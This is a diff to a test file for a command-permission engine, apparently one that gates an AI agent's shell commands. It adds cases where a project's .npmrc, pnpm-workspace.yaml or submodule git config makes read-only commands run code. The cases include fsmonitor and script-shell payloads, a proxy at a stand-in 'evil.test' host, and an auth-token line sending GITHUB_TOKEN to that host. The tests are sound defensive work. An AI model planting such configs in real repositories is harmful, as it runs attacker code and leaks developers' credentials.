@@ -1,10 +1,12 @@
 // A project's own configuration that makes a read-only command run code: git's repository
 // config, .yarnrc.yml, .pnpmfile.cjs, rust-toolchain.toml. Real repositories made by real git,
 // judged by the real permission engine; the attack cases ask, the everyday ones stay allowed.
-import { execFileSync, spawnSync } from "node:child_process";
+import { execFile, execFileSync, spawnSync } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { namedTool, request } from "../../test/permission-helpers.js";
 import { analyzeCommand } from "./index.js";
@@ -76,6 +78,7 @@ describe("a repository's own git config that runs programs makes read-only git a
       git(d, "config", "core.fsmonitor", "./evil");
     }, "cd src && git status", /core\.fsmonitor/],
     ["a wrapped git", set("core.fsmonitor", "./evil"), "timeout 5 git status", /core\.fsmonitor/],
+    ["gh, which runs git in the repository", set("core.fsmonitor", "./evil"), "gh pr list", /core\.fsmonitor/],
   ])("%s", (_name, setup, command, reason) => {
     const dir = repo(setup);
     const d = decide(command, dir);
@@ -146,6 +149,29 @@ describe("package managers and toolchains that run what the project names", () =
     ["a pnpmfile", { ".pnpmfile.cjs": "module.exports = {}\n" }, "pnpm list", /\.pnpmfile\.cjs/],
     ["a toolchain path", { "rust-toolchain.toml": '[toolchain]\npath = "/tmp/evil"\n' }, "cargo --version", /rust-toolchain\.toml/],
     ["a toolchain path as a dotted key", { "rust-toolchain.toml": 'toolchain.path = "/tmp/evil"\n' }, "rustc --version", /rust-toolchain\.toml/],
+    [".npmrc script-shell", { ".npmrc": "script-shell=./evil.sh\n" }, "npm ls", /script-shell/],
+    [".npmrc git", { ".npmrc": "git = ./evil\n" }, "npm outdated", /\bgit\b/],
+    [".npmrc node-options, quoted", { ".npmrc": 'node-options="--require ./evil.js"\n' }, "npm --version", /node-options/],
+    [".npmrc onload-script, spelt with an underscore and capitals", { ".npmrc": "Onload_Script=./evil.js\n" }, "npm ls", /onload-script/],
+    [".npmrc editor, browser, viewer", { ".npmrc": "editor=./evil\n" }, "npm ls", /editor/],
+    [".npmrc redirecting the user config", { ".npmrc": "userconfig=./other.npmrc\n" }, "npm ls", /userconfig/],
+    [".npmrc globalconfig", { ".npmrc": "globalconfig=/tmp/g\n" }, "npm --version", /globalconfig/],
+    [".npmrc cache elsewhere", { ".npmrc": "cache=../../elsewhere\n" }, "npm ls", /cache/],
+    [".npmrc logs-dir", { ".npmrc": "logs-dir=.husky\n" }, "npm ls", /logs-dir/],
+    [".npmrc prefix", { ".npmrc": "prefix=/tmp/p\n" }, "npm ls -g", /prefix/],
+    [".npmrc key named by an environment variable", { ".npmrc": "${KEY}=./evil\n" }, "npm ls", /environment variable/],
+    [".npmrc after an inline comment on another line", { ".npmrc": "fund=false ; no funding\nshell=./evil\n" }, "npm ls", /shell/],
+    [".npmrc in a workspace root above the package", { "../.npmrc": "script-shell=./evil\n", "package.json": "{}" }, "npm ls", /script-shell/],
+    [".npmrc registry chosen by the project, npm view", { ".npmrc": "registry=http://127.0.0.1:9/\n" }, "npm view react", /registry/],
+    [".npmrc scoped registry, npm info", { ".npmrc": "@types:registry=https://evil.test/\n" }, "npm info @types/node", /@types:registry/],
+    [".npmrc registry from the environment, npm outdated", { ".npmrc": "registry=${REG}\n" }, "npm outdated", /registry/],
+    [".npmrc credentials built from the environment for another host", { ".npmrc": "//evil.test/:_authToken=${GITHUB_TOKEN}\n" }, "npm view react", /evil\.test/],
+    [".npmrc https-proxy, npm view", { ".npmrc": "https-proxy=http://evil.test:8080\n" }, "npm view react", /https-proxy/],
+    [".npmrc strict-ssl off, npm outdated", { ".npmrc": "strict-ssl=false\n" }, "npm outdated --json", /strict-ssl/],
+    [".npmrc pnpmfile redirected", { ".npmrc": "pnpmfile=./evil.cjs\n" }, "pnpm ls", /pnpmfile/],
+    [".npmrc read by yarn 1", { ".npmrc": "git=./evil\n" }, "yarn list", /\.npmrc/],
+    ["pnpm-workspace.yaml naming a pnpmfile", { "pnpm-workspace.yaml": "pnpmfile: ./evil.cjs\n" }, "pnpm list", /pnpm-workspace\.yaml/],
+    ["pnpm-workspace.yaml config dependencies", { "pnpm-workspace.yaml": "configDependencies:\n  x: 1.0.0+sha512-abc\n" }, "pnpm ls", /pnpm-workspace\.yaml/],
     ["a toolchain path behind a unicode escape", { "rust-toolchain.toml": '[toolchain]\n"p\\u0061th" = "/tmp/evil"\n' }, "cargo --version", /rust-toolchain\.toml/],
   ])("%s asks", (_name, files, command, reason) => {
     const parent = plainDir();
@@ -161,6 +187,12 @@ describe("package managers and toolchains that run what the project names", () =
     ["a pinned channel", { "rust-toolchain.toml": '[toolchain]\nchannel = "1.80.0"\ncomponents = ["clippy"]\n' }, "cargo --version"],
     ["the legacy one-line toolchain file", { "rust-toolchain": "stable\n" }, "rustc --version"],
     ["an npm project", { "package.json": "{}", ".npmrc": "registry=https://registry.npmjs.org/\n" }, "npm --version"],
+    ["an everyday .npmrc, npm ls", { "package.json": "{}", ".npmrc": "save-exact=true\nengine-strict = true\n; script-shell=/tmp/evil (a comment)\n# git=./evil\nauto-install-peers=true\n" }, "npm ls --depth 0"],
+    ["a private registry, for a command that stays local", { ".npmrc": "@acme:registry=https://npm.acme.test/\n//npm.acme.test/:_authToken=${NPM_TOKEN}\n" }, "npm ls"],
+    ["the default registry with its token, npm view", { ".npmrc": "registry = \"https://registry.npmjs.org/\"\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n" }, "npm view react version"],
+    ["a harmless .npmrc, npm outdated", { ".npmrc": "save-exact=true\nfund=false\n" }, "npm outdated"],
+    ["pnpm-workspace.yaml listing packages", { "pnpm-workspace.yaml": "packages:\n  - 'packages/*'\n" }, "pnpm list"],
+    ["pnpm with an everyday .npmrc", { ".npmrc": "auto-install-peers=true\nstrict-peer-dependencies=false\n" }, "pnpm ls"],
     ["yarn without a project file", { "package.json": "{}" }, "yarn --version"],
   ])("benign: %s stays allowed", (_name, files, command) => {
     const dir = plainDir((d) => {
@@ -184,6 +216,83 @@ describe("package managers and toolchains that run what the project names", () =
   });
 });
 
+describe("a submodule's own git config counts (git status runs git in every checked-out submodule)", () => {
+  /** A superproject with one checked-out submodule `sub`; `setup` shapes the submodule afterwards. */
+  function withSubmodule(setup: (sub: string, top: string) => void = () => {}): string {
+    const inner = repo((d) => git(d, "commit", "-q", "--allow-empty", "-m", "x"));
+    const top = repo();
+    git(top, "-c", "protocol.file.allow=always", "submodule", "add", "-q", inner, "sub");
+    git(top, "commit", "-q", "-m", "add sub");
+    setup(join(top, "sub"), top);
+    return top;
+  }
+
+  it("a benign submodule (its config names its own work tree) stays allowed", () => {
+    const d = decide("git status", withSubmodule());
+    expect(d.behavior, d.reason).toBe("allow");
+  });
+
+  it("from a subdirectory of the superproject: the benign one stays allowed, a configured program asks", () => {
+    const benign = withSubmodule((_sub, top) => mkdirSync(join(top, "src")));
+    expect(decide("git status", join(benign, "src")).behavior).toBe("allow");
+    const evil = withSubmodule((sub, top) => {
+      mkdirSync(join(top, "src"));
+      git(sub, "config", "core.fsmonitor", "./evil");
+    });
+    expect(decide("git status", join(evil, "src"))).toMatchObject({ behavior: "ask", reason: expect.stringMatching(/submodule \.\.\/sub.*core\.fsmonitor/) });
+  });
+
+  it("a submodule's config changed after a decision is read again", () => {
+    let sub = "";
+    const top = withSubmodule((s) => (sub = s));
+    expect(decide("git status", top).behavior).toBe("allow");
+    git(sub, "config", "core.fsmonitor", "./evil");
+    expect(decide("git status", top).behavior).toBe("ask");
+  });
+
+  it.each<[string, (sub: string, top: string) => void, string]>([
+    ["fsmonitor in .git/modules/sub/config", (sub) => git(sub, "config", "core.fsmonitor", "./evil"), "git status"],
+    ["a textconv driver in the submodule", (sub) => git(sub, "config", "diff.x.textconv", "./evil"), "git diff"],
+    ["a submodule's work tree pointed elsewhere", (sub) => git(sub, "config", "core.worktree", "/"), "git status"],
+    ["an old-style submodule with its own .git directory", (_sub, top) => {
+      const old = join(top, "old");
+      mkdirSync(old);
+      git(old, "init", "-q");
+      git(old, "commit", "-q", "--allow-empty", "-m", "x");
+      git(top, "add", "old");
+      git(old, "config", "core.fsmonitor", "./evil");
+    }, "git status"],
+    ["a submodule of a submodule", (sub) => {
+      const deep = repo((d) => git(d, "commit", "-q", "--allow-empty", "-m", "x"));
+      git(sub, "-c", "protocol.file.allow=always", "submodule", "add", "-q", deep, "deep");
+      git(join(sub, "deep"), "config", "core.fsmonitor", "./evil");
+    }, "git status"],
+    ["the superproject's submodule.NAME.update command", (_sub, top) => git(top, "config", "submodule.sub.update", "!touch PWNED"), "git status"],
+  ])("%s asks", (_name, setup, command) => {
+    const d = decide(command, withSubmodule(setup));
+    expect(d.behavior, d.reason).toBe("ask");
+    expect(d.reason).toMatch(/may run code the project ships/);
+  });
+
+  it("end to end: git status in the superproject does not run the submodule's fsmonitor", () => {
+    let pwned = "";
+    const top = withSubmodule((sub) => {
+      pwned = join(sub, "..", "PWNED");
+      git(sub, "config", "core.fsmonitor", `touch ${pwned}; false`);
+    });
+    // The attack is real: git itself runs it.
+    git(top, "status", "--short");
+    expect(existsSync(pwned)).toBe(true);
+    rmSync(pwned);
+    const out = execFileSync(process.execPath, [join(process.cwd(), "bin/armature.js"), "exec", "-", "--cwd", top], {
+      input: `${JSON.stringify([{ type: "tool_use", id: "g", name: "Bash", input: { command: "git status --short" } }])}\n`,
+      encoding: "utf8",
+    });
+    expect(out).toMatch(/core\.fsmonitor/);
+    expect(existsSync(pwned)).toBe(false);
+  });
+});
+
 describe("end to end through exec", () => {
   it("git status in a repository whose config names an fsmonitor program does not run it", () => {
     const dir = repo((d) => git(d, "config", "core.fsmonitor", `touch ${join(d, "PWNED")}; false`));
@@ -194,5 +303,35 @@ describe("end to end through exec", () => {
     expect(out).toMatch(/is_error/);
     expect(out).toMatch(/core\.fsmonitor/);
     expect(existsSync(join(dir, "PWNED"))).toBe(false);
+  });
+});
+
+describe("end to end: npm view with a project-chosen registry does not reach it", () => {
+  const npm = spawnSync("npm", ["--version"]).status === 0;
+
+  it.skipIf(!npm)("the registry named by the project's .npmrc gets no request", async () => {
+    const hits: string[] = [];
+    const server = createServer((req, res) => {
+      hits.push(req.url ?? "");
+      res.writeHead(404).end();
+    });
+    await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
+    try {
+      const port = (server.address() as AddressInfo).port;
+      const dir = plainDir((d) => writeFileSync(join(d, ".npmrc"), `registry=http://127.0.0.1:${port}/\n`));
+      // The attack is real: npm itself asks that host.
+      const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => !/proxy/i.test(k)));
+      await new Promise<void>((ok) => execFile("npm", ["view", "left-pad", "version", "--fetch-retries=0"], { cwd: dir, env, timeout: 20_000 }, () => ok()));
+      expect(hits.length).toBeGreaterThan(0);
+      hits.length = 0;
+      const out = await new Promise<string>((ok, fail) => {
+        const child = execFile(process.execPath, [join(process.cwd(), "bin/armature.js"), "exec", "-", "--cwd", dir], { encoding: "utf8" }, (err, stdout) => (err ? fail(err) : ok(stdout)));
+        child.stdin?.end(`${JSON.stringify([{ type: "tool_use", id: "n", name: "Bash", input: { command: "npm view left-pad version" } }])}\n`);
+      });
+      expect(out).toMatch(/registry/);
+      expect(hits).toEqual([]);
+    } finally {
+      server.close();
+    }
   });
 });
